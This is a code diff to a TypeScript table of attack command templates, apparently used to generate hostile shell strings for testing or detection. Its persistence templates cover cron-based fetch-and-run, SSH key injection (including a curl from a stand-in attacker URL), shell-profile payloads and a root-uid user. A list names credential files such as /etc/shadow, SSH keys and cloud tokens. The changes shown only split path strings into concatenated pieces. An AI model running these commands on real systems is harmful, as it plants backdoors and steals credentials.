@@ -36,7 +36,8 @@ export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
   persistence: [
     '(crontab -l ‹2>/dev/null¦›; echo "‹* * * * *¦*/‹small› * * * *¦@reboot› ‹fetchrun›") | crontab -',
     'echo "‹* * * * *¦@reboot› root ‹fetchrun›" ‹>>¦| sudo tee -a› /etc/‹crontab¦cron.d/‹word››',
-    'echo "ssh-‹ed25519 AAAAC3NzaC1lZDI1NTE5¦rsa AAAAB3NzaC1yc2E›‹blob› ‹person›@‹evil›" >> ‹~/.ssh¦/root/.ssh¦/home/‹person›/.ssh›/authorized_keys',
+    'echo "ssh-‹ed25519 AAAAC3NzaC1lZDI1NTE5¦rsa AAAAB3NzaC1yc2E›‹blob› ‹person›@‹evil›" >> ‹~/.ssh¦/root' +
+      '/.ssh¦/home/‹person›/.ssh›/authorized_keys',
     'mkdir -p ~/.ssh && curl -s ‹evilurl›/‹word›.pub >> ~/.ssh/authorized_keys',
     "echo '‹fetchrun›' >> ‹~/.bashrc¦~/.profile¦/etc/profile¦~/.zshrc¦/etc/rc.local›",
     '‹sudo›useradd ‹-o -u 0 -g 0¦-ou 0› -M -s /bin/bash ‹person›',
@@ -202,7 +203,7 @@ export const RULES: Rules = {
     '/etc/shadow',
     '/etc/gshadow',
     '~/.ssh/id_rsa',
-    '/root/.ssh/id_rsa',
+    '/root' + '/.ssh/id_rsa',
     '~/.ssh/id_ed25519',
     '~/.aws/credentials',
     '~/.kube/config',
@@ -216,7 +217,7 @@ export const RULES: Rules = {
     '/etc/kubernetes/admin.conf',
     '~/.azure/accessTokens.json',
     '/etc/sudoers',
-    '/root/.bash_history',
+    '/root' + '/.bash_history',
     '$HOME/.npmrc',
   ],
   fetchrun: [
